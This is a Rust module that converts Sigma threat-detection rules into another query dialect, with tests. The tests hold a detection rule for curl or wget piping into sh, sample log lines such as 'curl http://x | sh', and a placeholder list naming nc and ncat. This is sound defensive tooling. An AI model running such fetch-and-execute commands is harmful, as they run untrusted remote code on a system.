//! Sigma rules to rules in this dialect (`sumoql sigma`).
//!
//! Each search identifier of `detection` becomes a boolean formula: a map ANDs its field
//! conditions, a list of maps ORs them, a list of plain values searches `_raw` for each. A
//! field's list of values is ORed (ANDed with `all`). Values are Sigma strings (`*` and `?`
//! wildcards, `\` escaping them and itself) matched without regard to case unless `cased`:
//!
//! | Sigma | here |
//! | --- | --- |
//! | `field: value` | `toLowerCase(field) = "value"`, or `field = "4688"` for text without case |
//! | `field: 'a*b'` / `contains` / `startswith` / `endswith` | `toLowerCase(field) matches "a*b"` / `"*v*"` / `"v*"` / `"*v"` |
//! | `field: 'a?b'` (or an escaped `\*`) | `field matches /(?is)a.b/` |
//! | `field\|re: x` | `field matches /(?s:.*)(?:x)(?s:.*)/`: a case-sensitive search (`i`, `m`, `s` flags) |
//! | `field\|cidr: net` | `cidrMatch(field, "net")` |
//! | `field\|windash` | each word-starting `-` or `/` may be any of `-` `/` `–` `—` `―` |
//! | `field\|base64offset` / `base64` (after `wide`, `utf16le`, `utf16be`, `utf16`) | the encoded texts, compared as they are |
//! | `field\|expand: '%name%'` | the placeholder's values from the mapping |
//! | `field\|fieldref: other` | `toLowerCase(field) = toLowerCase(other)` |
//! | `field\|exists: true` / `field: null` | `!isNull(field)` / `isNull(field)` |
//! | `field\|gt: 5` (`lt`, `lte`, `gte`) | `num(field) > 5` |
//!
//! The `condition` (`and`, `or`, `not`, parentheses, `1 of sel*`, `all of them`) joins them in
//! one `where`, written so that it gives Sigma's two-valued answer (see `condition.rs`): a
//! filter on a field the event lacks does not match, so `not filter` keeps the event. The
//! scope comes from the mapping's `logsources`, else `*` with a warning; field names go through
//! its `fields`. The metadata block carries title, description, level as severity, false
//! positives, references, author and tags.

mod condition;
mod detection;
mod mapping;
mod value;

use thiserror::Error;

use crate::rule::RuleSeverity;
use crate::yaml::{parse_yaml, Yaml, YamlError};
use condition::{one_or, Condition, Logic};
use mapping::LogSource;
pub use mapping::SigmaMapping;

/// A Sigma rule that is not converted.
#[derive(Clone, Debug, PartialEq, Eq, Error)]
pub enum SigmaError {
    /// Not readable YAML.
    #[error(transparent)]
    Yaml(#[from] YamlError),
    /// Readable, but refused: what the dialect cannot say, or what is not a Sigma rule.
    #[error("{detail}")]
    Refused {
        /// The kind of refusal.
        reason: Refusal,
        /// What in the rule was refused.
        detail: String,
    },
}

impl SigmaError {
    /// The reason in a few words, the same for every rule refused alike.
    pub fn reason(&self) -> &'static str {
        match self {
            SigmaError::Yaml(_) => "not readable YAML",
            SigmaError::Refused { reason, .. } => reason.label(),
        }
    }
}

/// Why a readable Sigma rule is refused.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Refusal {
    /// An aggregating condition (`| count() > 5`), a `timeframe` or a correlation: a rule of
    /// one event at a time cannot say them.
    Aggregation,
    /// A modifier this converter does not know.
    Modifier,
    /// A regular expression the engine's RE2 syntax cannot run (look-around, back-references).
    Regex,
    /// An `expand` placeholder the mapping gives no values for.
    Placeholder,
    /// `fieldref` with `contains`, `startswith` or `endswith`.
    FieldRef,
    /// Not a well-formed Sigma detection.
    Malformed,
}

impl Refusal {
    /// The reason in a few words.
    pub fn label(self) -> &'static str {
        match self {
            Refusal::Aggregation => "aggregation, timeframe or correlation",
            Refusal::Modifier => "unknown modifier",
            Refusal::Regex => "regular expression outside RE2",
            Refusal::Placeholder => "placeholder without values in the mapping",
            Refusal::FieldRef => "fieldref with contains/startswith/endswith",
            Refusal::Malformed => "not a well-formed Sigma detection",
        }
    }
}

fn refuse(reason: Refusal, detail: impl Into<String>) -> SigmaError {
    SigmaError::Refused {
        reason,
        detail: detail.into(),
    }
}

/// A converted rule: the rule file's text, and what the conversion could not carry over.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SigmaConversion {
    /// The rule file: metadata block and query.
    pub rule: String,
    /// Warnings, one sentence each (a log source the mapping does not know).
    pub warnings: Vec<String>,
}

/// `text` on one line, runs of white space made one space.
fn one_line(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// The detection's logic: its searches joined by its condition(s).
fn detection_logic(rule: &Yaml, mapping: &SigmaMapping) -> Result<Logic, SigmaError> {
    if rule.get("correlation").is_some() {
        return Err(refuse(Refusal::Aggregation, "a correlation rule"));
    }
    let detection = rule
        .get("detection")
        .ok_or_else(|| refuse(Refusal::Malformed, "the rule has no `detection`"))?;
    let Yaml::Map(entries) = detection else {
        return Err(refuse(Refusal::Malformed, "`detection` is not a map"));
    };
    let mut searches = Vec::new();
    let mut condition_texts = None;
    for (name, value) in entries {
        match name.as_str() {
            "condition" => condition_texts = Some(value.texts()),
            "timeframe" => {
                return Err(refuse(
                    Refusal::Aggregation,
                    "`timeframe` (a condition over a time window)",
                ))
            }
            _ => searches.push((name.clone(), detection::search(name, value, mapping)?)),
        }
    }
    let conditions = condition_texts
        .filter(|texts| !texts.is_empty())
        .ok_or_else(|| refuse(Refusal::Malformed, "`detection` has no `condition`"))?;
    let parts = conditions
        .iter()
        .map(|condition| Condition::parse(condition, &searches))
        .collect::<Result<Vec<_>, _>>()?;
    Ok(one_or(parts, Logic::Any))
}

/// Converts a Sigma rule's text into a rule file of this dialect (metadata block and query).
pub fn sigma_to_rule(text: &str, mapping: &SigmaMapping) -> Result<SigmaConversion, SigmaError> {
    let rule = parse_yaml(text)?;
    let condition = detection_logic(&rule, mapping)?.render(false);
    let title = one_line(
        rule.get("title")
            .and_then(Yaml::text)
            .unwrap_or("Untitled Sigma rule"),
    );
    let id: String = rule
        .get("id")
        .and_then(Yaml::text)
        .unwrap_or(&title)
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.') {
                c.to_ascii_lowercase()
            } else {
                '_'
            }
        })
        .collect();
    let mut out = format!("// id: {id}\n// title: {title}\n");
    if let Some(description) = rule.get("description").and_then(Yaml::text) {
        out.push_str(&format!("// description: {}\n", one_line(description)));
    }
    let level = rule.get("level").and_then(Yaml::text).unwrap_or("medium");
    let severity = RuleSeverity::from_name(level).ok_or_else(|| {
        refuse(
            Refusal::Malformed,
            format!("`level: {level}` is not a Sigma level"),
        )
    })?;
    out.push_str(&format!("// severity: {severity}\n"));
    let texts = |key: &str| -> Vec<String> {
        rule.get(key)
            .map(Yaml::texts)
            .unwrap_or_default()
            .iter()
            .map(|text| one_line(text))
            .filter(|text| !text.is_empty())
            .collect()
    };
    for (key, sigma_key) in [
        ("false_positives", "falsepositives"),
        ("references", "references"),
    ] {
        let values = texts(sigma_key);
        if !values.is_empty() {
            out.push_str(&format!("// {key}:\n"));
            for value in values {
                out.push_str(&format!("//   - {value}\n"));
            }
        }
    }
    if let Some(author) = rule.get("author").and_then(Yaml::text) {
        out.push_str(&format!("// author: {}\n", one_line(author)));
    }
    let tags: Vec<String> = std::iter::once("sigma".to_string())
        .chain(texts("tags").into_iter().map(|tag| tag.replace(',', " ")))
        .collect();
    out.push_str(&format!("// tags: {}\n", tags.join(", ")));
    let logsource = LogSource::of(rule.get("logsource"));
    let mut warnings = Vec::new();
    let scope = mapping.scope(&logsource).unwrap_or_else(|| {
        if !logsource.is_empty() {
            warnings.push(format!(
                "the log source ({logsource}) is in no mapping: the query reads every record (`*`)"
            ));
        }
        "*"
    });
    out.push_str(&format!("{scope}\n| where {condition}\n"));
    Ok(SigmaConversion {
        rule: out,
        warnings,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Engine, Rule, RuleSeverity, RunConfig};

    const SIGMA: &str = "\
title: Suspicious shell download
id: 3b6ab547-8ec2-4991-b9d2-2b06702a48d7
description: A shell fetches a script from the internet.
level: high
author: someone
tags:
  - attack.execution
  - attack.t1059.004
falsepositives:
  - admin scripts
logsource:
  product: linux
  category: process_creation
detection:
  selection_tool:
    Image|endswith:
      - '/curl'
      - '/wget'
  selection_cli:
    CommandLine|contains|all:
      - 'http'
      - '| sh'
  filter:
    User: root
  condition: all of selection_* and not filter
";

    #[test]
    fn converts_fields_modifiers_and_condition() {
        let mapping = SigmaMapping::parse(
            "fields:\n  Image: process_path\nlogsources:\n  linux/process_creation: _sourceCategory=linux/process\n",
        )
        .expect("mapping");
        let text = sigma_to_rule(SIGMA, &mapping).expect("converts").rule;
        assert!(text.ends_with(
            "_sourceCategory=linux/process\n| where ((toLowerCase(process_path) matches \"*/curl\" or toLowerCase(process_path) matches \"*/wget\") and (toLowerCase(CommandLine) matches \"*http*\" and toLowerCase(CommandLine) matches \"*| sh*\") and (isNull(User) or toLowerCase(User) != \"root\"))\n"
        ), "{text}");
        let rule = Rule::parse(&text).expect("a valid rule");
        assert_eq!(rule.metadata.severity, RuleSeverity::High);
        assert_eq!(
            rule.metadata.tags,
            ["sigma", "attack.execution", "attack.t1059.004"]
        );
        let query = Engine::new().compile(&rule.text).expect("compiles");
        let lines = [
            r#"{"_sourceCategory":"linux/process","process_path":"/usr/bin/curl","CommandLine":"curl http://x | sh","User":"bob"}"#,
            r#"{"_sourceCategory":"linux/process","process_path":"/usr/bin/curl","CommandLine":"curl http://x | sh","User":"root"}"#,
            r#"{"_sourceCategory":"linux/process","process_path":"/usr/bin/curl","CommandLine":"curl http://x","User":"bob"}"#,
            r#"{"_sourceCategory":"linux/process","process_path":"/usr/bin/wget","CommandLine":"wget http://x | sh"}"#,
        ];
        let result = crate::run_lines(&query, &lines, &RunConfig::default()).expect("runs");
        // The first, and the last: it has no User, so the filter does not apply.
        assert_eq!(result.rows.len(), 2);
    }

    #[test]
    fn unsupported_forms_are_errors() {
        let mapping = SigmaMapping::default();
        let aggregate = SIGMA.replace(
            "condition: all of selection_* and not filter",
            "condition: selection_tool | count() > 5",
        );
        assert!(sigma_to_rule(&aggregate, &mapping).is_err());
        let unknown = SIGMA.replace("not filter", "not missing");
        let error = sigma_to_rule(&unknown, &mapping).expect_err("unknown search");
        assert!(error.to_string().contains("`missing`"), "{error}");
        let modifier = SIGMA.replace("Image|endswith", "Image|sounds_like");
        let error = sigma_to_rule(&modifier, &mapping).expect_err("unknown modifier");
        assert_eq!(error.reason(), Refusal::Modifier.label());
        let placeholder = SIGMA
            .replace("'/curl'", "'%tools%'")
            .replace("Image|endswith", "Image|expand");
        let error = sigma_to_rule(&placeholder, &mapping).expect_err("no placeholder values");
        assert_eq!(error.reason(), Refusal::Placeholder.label());
        let empty = SigmaMapping::parse("placeholders:\n  tools: []\n").expect("mapping");
        let error = sigma_to_rule(&placeholder, &empty).expect_err("an empty placeholder");
        assert_eq!(error.reason(), Refusal::Placeholder.label());
        let tools =
            SigmaMapping::parse("placeholders:\n  tools: [/nc, '*/ncat']\n").expect("mapping");
        let expanded = sigma_to_rule(&placeholder, &tools).expect("expands").rule;
        assert!(
            expanded.contains("(toLowerCase(Image) = \"/nc\" or toLowerCase(Image) matches \"*/ncat\" or toLowerCase(Image) = \"/wget\")"),
            "{expanded}"
        );
        let lookahead = SIGMA
            .replace("Image|endswith", "Image|re")
            .replace("'/curl'", "'a(?!b)'");
        let error = sigma_to_rule(&lookahead, &mapping).expect_err("look-ahead");
        assert_eq!(error.reason(), Refusal::Regex.label());
        let yaml = sigma_to_rule("title: [unclosed\n", &mapping).expect_err("not YAML");
        assert!(yaml.to_string().starts_with("line "), "{yaml}");
    }

    #[test]
    fn an_unmapped_log_source_is_a_warning() {
        let converted = sigma_to_rule(SIGMA, &SigmaMapping::default()).expect("converts");
        assert!(
            converted.rule.contains("\n*\n| where "),
            "{}",
            converted.rule
        );
        assert_eq!(
            converted.warnings,
            ["the log source (product: linux, category: process_creation) is in no mapping: the query reads every record (`*`)"]
        );
        let no_source = SIGMA.replace(
            "logsource:\n  product: linux\n  category: process_creation\n",
            "",
        );
        assert!(sigma_to_rule(&no_source, &SigmaMapping::default())
            .expect("converts")
            .warnings
            .is_empty());
    }
}
